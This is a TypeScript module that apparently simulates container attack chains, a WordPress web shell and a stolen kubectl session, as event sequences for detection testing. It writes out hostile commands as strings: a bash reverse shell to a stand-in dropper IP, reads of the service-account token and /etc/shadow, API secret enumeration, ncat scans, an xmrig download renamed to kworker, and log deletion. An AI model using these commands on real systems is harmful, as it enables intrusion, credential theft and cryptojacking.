import type { Act } from './acts.js';
import { connectAct, dnsAct, execAct, openAct, unlinkActs } from './acts.js';
import type { Random } from './random.js';
import type { Routine } from './routines.js';
import type { Place, Process } from './world.js';

const TOKEN = '/run/secrets/kubernetes.io/serviceaccount/token';
const DROPPER = { ip: '185.220.101.47', domain: 'cdn-update.example.org' };
const POOL = { ip: '51.15.58.224', domain: 'pool.minexmr.example.com', port: 3333 };

/** The next attack: through a web shell into a web workload, or through a stolen session into a build runner. */
export function attackOn(places: readonly Place[], random: Random): Routine | undefined {
  const webs = places.filter((place) => place.workload?.name === 'wordpress');
  const runners = places.filter((place) => place.workload?.name === 'runner');
  if (webs.length > 0 && (runners.length === 0 || random.chance(0.7))) return webShell(random.pick(webs), random);
  return runners.length === 0 ? undefined : stolenSession(random.pick(runners), random);
}

/** Web shell → shell → discovery → token → lateral egress → miner (blocked, then under another name) → traces removed. */
function* webShell(place: Place, random: Random): Generator<Act, void> {
  const php = '/var/www/html/wp-content/uploads/2026/07/.thumb.php';
  yield openAct(place, place.main, php, true);
  yield openAct(place, place.main, php);
  const shell = place.fork(place.main, '/bin/sh', '-c "id; uname -a; cat /proc/1/cgroup"', random, {
    cwd: '/var/www/html',
  });
  yield execAct(place, shell);
  yield execAct(place, place.fork(shell, '/usr/bin/id', '', random));
  yield execAct(place, place.fork(shell, '/bin/uname', '-a', random));
  const bash = place.fork(shell, '/bin/bash', `-i >& /dev/tcp/${DROPPER.ip}/4444 0>&1`, random, { cwd: '/tmp' });
  yield execAct(place, bash);
  yield connectAct(place, bash, DROPPER.ip, 4444);
  yield* readToken(place, bash, random);
  yield* lookAround(place, bash, random);
  yield* mine(place, bash, random);
  const rm = place.fork(bash, '/bin/rm', '-f /var/log/apache2/access.log', random);
  yield execAct(place, rm);
  yield* unlinkActs(place, rm, '/var/log/apache2/access.log');
}

/** kubectl exec with a stolen kubeconfig: secrets, a package manager that is refused, then the miner. */
function* stolenSession(place: Place, random: Random): Generator<Act, void> {
  const bash = place.enter('/bin/bash', random);
  yield execAct(place, bash);
  const cat = place.fork(bash, '/bin/cat', '/etc/shadow', random);
  yield execAct(place, cat);
  yield openAct(place, cat, '/etc/shadow');
  yield execAct(place, place.fork(bash, '/usr/bin/apt', 'install -y ncat', random));
  yield* readToken(place, bash, random);
  yield* mine(place, bash, random);
}

function* readToken(place: Place, shell: Process, random: Random): Generator<Act, void> {
  const cat = place.fork(shell, '/bin/cat', TOKEN, random);
  yield execAct(place, cat);
  yield openAct(place, cat, TOKEN);
  if (!random.chance(0.5)) return;
  const python = place.fork(
    shell,
    '/usr/bin/python3.12',
    '-c "open(\'/run/secrets/kubernetes.io/serviceaccount/token\')"',
    random,
  );
  yield execAct(place, python);
  yield openAct(place, python, TOKEN);
}

function* lookAround(place: Place, shell: Process, random: Random): Generator<Act, void> {
  const curl = place.fork(
    shell,
    '/usr/bin/curl',
    '-sk -H "Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IngifQ.c2ltdWxhdGVk.c2ln" https://10.96.0.1/api/v1/secrets',
    random,
  );
  yield execAct(place, curl);
  yield connectAct(place, curl, '10.96.0.1', 443);
  for (const [ip, port] of [
    ['10.96.14.20', 3306],
    ['10.96.14.31', 6379],
  ] as const) {
    const ncat = place.fork(shell, '/usr/bin/ncat', `-zv ${ip} ${port}`, random);
    yield execAct(place, ncat);
    yield connectAct(place, ncat, ip, port);
  }
}

function* mine(place: Place, shell: Process, random: Random): Generator<Act, void> {
  const folder = `/tmp/.${random.hex(6)}`;
  const curl = place.fork(shell, '/usr/bin/curl', `-so ${folder}/xmrig http://${DROPPER.domain}/x64`, random);
  yield execAct(place, curl);
  yield dnsAct(place, curl, DROPPER.domain, random);
  yield connectAct(place, curl, DROPPER.ip, 80);
  yield openAct(place, curl, `${folder}/xmrig`, true);
  yield execAct(place, place.fork(shell, '/bin/chmod', `+x ${folder}/xmrig`, random));
  const options = `-o ${POOL.domain}:${POOL.port} -u 4${random.hex(20)}`;
  yield execAct(place, place.fork(shell, `${folder}/xmrig`, options, random));
  // Refused under its own name, so it comes again as something that looks like a kernel thread.
  const hidden = place.fork(shell, '/dev/shm/kworker', options, random);
  yield execAct(place, hidden);
  yield dnsAct(place, hidden, POOL.domain, random);
  yield connectAct(place, hidden, POOL.ip, POOL.port);
}
